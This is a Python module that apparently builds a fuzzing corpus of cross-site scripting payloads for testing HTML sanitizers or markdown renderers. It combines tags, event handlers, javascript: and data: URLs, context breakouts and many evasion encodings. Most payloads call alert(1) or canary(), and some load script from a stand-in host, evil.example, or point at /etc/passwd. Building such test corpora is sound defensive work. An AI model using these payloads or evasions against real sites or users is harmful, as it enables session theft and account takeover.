"""Attempts to make a page run a script, made by rule: every tag, handler, quote and encoding.

Each calls `alert(1)` or `canary()`; a browser that runs one of them has been broken into.
"""

from __future__ import annotations

import re
from base64 import b64encode
from collections.abc import Iterator
from itertools import chain, product
from urllib.parse import quote

TAGS = re.findall(
    r"\w+",
    "script img svg iframe object embed video audio body input details marquee form button select "
    "textarea math style link meta base table td a p div template isindex keygen frameset x "
    "animate set image noscript title dialog portal",
)
HANDLERS = re.findall(
    r"\w+",
    "onerror onload onclick onfocus onmouseover ontoggle onstart onanimationstart onpointerenter "
    "onbegin onloadstart oncanplay onwheel onpageshow onhashchange onbeforetoggle onscrollend "
    "ONERROR oNlOaD onfocusin",
)
SHAPES = (
    "<{tag} {on}=alert(1)>",
    "<{tag} src=x {on}=alert(1)>",
    '"><{tag} src=x {on}="alert(1)" autofocus tabindex=0>',
    "'><{tag}/src=x/{on}='canary()'>",
    "<{tag}\t{on}\n=\ncanary()\n>",
    "</{tag}><{tag}/{on}=alert(1)//",
    "--><{tag} src=x {on}=alert`1`>",
    "]]><{tag} open href=# {on}=canary()>x</{tag}>",
    "<{tag} {on}=&#97;lert(1) style=animation-name:x>",
    "<{tag} {on}=alert(1) ",
)
SCRIPTS = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<script>canary()</script >",
    "<SCRIPT/XSS>alert(1)</SCRIPT\n>",
    "<script\x0c>canary()</script>",
    "<svg><script>alert&#40;1&#41;</script>",
    "<script type=module>import('data:text/javascript,canary()')</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>parent.canary()</script>'>",
    "<a href=javascript:canary()>x</a>",
    "<style>@import'javascript:alert(1)';</style>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body background=javascript:alert(1)>",
    "<table background='javascript:alert(1)'>",
    "<isindex action=javascript:alert(1) type=image>",
    "<b id=x tabindex=1 onactivate=alert(1)>",
    "<xml id=i><x><c><![CDATA[<img src='x' onerror='alert(1)'>]]></c></x></xml>",
    "<div style='width:expression(alert(1))'>",
    "<div style=background:url(javascript:alert(1))>",
)
CLOSINGS = (
    "</script>",
    "</style>",
    "</title>",
    "</textarea>",
    "</template>",
    "</noscript>",
    "</select>",
    "</article></li></ol></section></main>",
    "</bdi></b></header>",
    "</div></article>",
    "-->",
    "]]>",
    "*/",
    '"}}]}</script>',
    '"]}',
    "'",
    '"',
    "`",
    "\\",
    '\\\\"',
    "<!--",
    "<!--<script>",
    "<![CDATA[",
    "<?xml ",
    "<%",
    "{{",
    "{%",
    "${",
    "#{",
    "\u2028",
    "\u2029",
    "\r\n\r\n",
    "\x00",
    "&lt;",
    "&#60;",
    "%3C",
)
SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:canary()",
    " javascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106avascript:alert(1)",
    "javascript://a.example/%0aalert(1)",
    "javascript:/*http://a.example/*/alert(1)",
    "javascript:'http://a.example/';alert(1)",
    "jav&#x0A;ascript:alert(1)",
    "%6Aavascript:alert(1)",
    "\uff4aavascript:alert(1)",
    "javascript\uff1aalert(1)",
    "java\u200bscript:alert(1)",
    "java\u00adscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "livescript:alert(1)",
    "blob:http://a.example/x",
    "file:///etc/passwd",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "http:javascript:alert(1)",
    'https://a.example/"onmouseover=alert(1)//',
    "https://a.example/'onmouseover='alert(1)",
    "https://a.example/`onmouseover=alert(1)",
    "https://a.example/<script>alert(1)</script>",
    "https://a.example/&quot;onclick=alert(1)",
    "https://a.example/\u202egpj.exe",
    "https://user:pw@a.example/?q=<svg/onload=alert(1)>",
    "mailto:a@a.example?body=<script>alert(1)</script>",
    '"onmouseover=alert(1)@a.example',
    'www.a.example/"onclick=alert(1)',
    "https://[::1]:80/<svg onload=alert(1)>",
)
PLACES = (
    "{u}",
    "<{u}>",
    "[x]({u})",
    "![x]({u})",
    "[x](<{u}>)",
    '[x]({u} "t")',
    "[x]: {u}\n\n[x]",
    "[{u}]({u})",
    '<a href="{u}">x</a>',
    "<a href={u}>x</a>",
    "<iframe src='{u}'>",
    "<form action={u}><button>x",
    "<svg><a xlink:href={u}><text>x",
    "<meta http-equiv=refresh content='0;url={u}'>",
    "<base href={u}>",
    "<object data={u}>",
    "<embed src={u}>",
    "<math href={u}>x",
    "https://a.example/{u}",
    "www.a.example/{u}",
    "`{u}`",
    "> {u}",
    "- {u}",
    "1. {u}",
    "*{u}*",
    "**{u}**",
    "    {u}",
    "({u})",
    "\\{u}",
    "a@a.example{u}",
)
MARKUP = (
    "> {}",
    "- {}",
    "1. {}",
    "> > - {}",
    "    {}",
    "```\n{}\n```",
    "`{}`",
    "``{}``",
    "*{}*",
    "**{}**",
    "*{}",
    "**{}`",
    "\\{}",
    "[{}](http://a.example/)",
    "[x](http://a.example/ '{}')",
    "http://a.example/{}",
    "<{}>",
    "{}\n===",
    "# {}",
    "| {} |\n|-|",
    "<!-- {} -->",
    "\u202e{}\u202c",
    "&{};",
    "*_**_{}",
)


def handlers() -> Iterator[str]:
    for tag, on, shape in product(TAGS, HANDLERS, SHAPES):
        yield shape.format(tag=tag, on=on)


def links() -> Iterator[str]:
    for scheme, place in product(SCHEMES, PLACES):
        yield place.replace("{u}", scheme)


def breakouts() -> Iterator[str]:
    for closing, script in product(CLOSINGS, SCRIPTS):
        yield closing + script
        yield f'{closing} onmouseover=alert(1) x="{script[:20]}'


def nested() -> Iterator[str]:
    for place, script in product(MARKUP, SCRIPTS):
        yield place.replace("{}", script)
    for script in SCRIPTS:
        yield script[:4] + script + script[4:]
        yield f"<{script}"
        yield "".join(f"{letter}\u0338" for letter in script)


def encoded() -> Iterator[str]:
    for script in SCRIPTS:
        yield quote(script)
        yield quote(quote(script))
        yield "".join(f"&#{ord(letter)};" for letter in script)
        yield "".join(f"&#x{ord(letter):x}" for letter in script)
        yield "".join(f"\\u{ord(letter):04x}" for letter in script)
        yield "".join(f"\\x{ord(letter):02x}" for letter in script if ord(letter) < 256)
        yield "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in script)
        yield script.replace("<", "+ADw-").replace(">", "+AD4-")
        yield script.replace("<", "\u2039").replace(">", "\u203a")
        yield script.replace("s", "\u017f").replace("S", "\u017f")  # folds to an s
        yield script.replace("r", "r\x00")
        yield script.replace("<", "<\u200b")
        yield script.replace(" ", "\u00a0")
        yield script.replace(" ", "/**/").replace("alert", "al\\u0065rt")
        yield b64encode(script.encode()).decode()
        yield script.replace("<", "%c0%bc").replace(">", "%c0%be")


def corpus() -> list[str]:
    """All of them, each once: more than ten thousand."""
    return list(dict.fromkeys(chain(links(), breakouts(), nested(), encoded(), handlers())))


def sample(count: int, offset: int = 0) -> list[str]:
    """So many of them, of all kinds, always the same."""
    every = corpus()
    return [every[(offset + number * 7919) % len(every)] for number in range(count)]
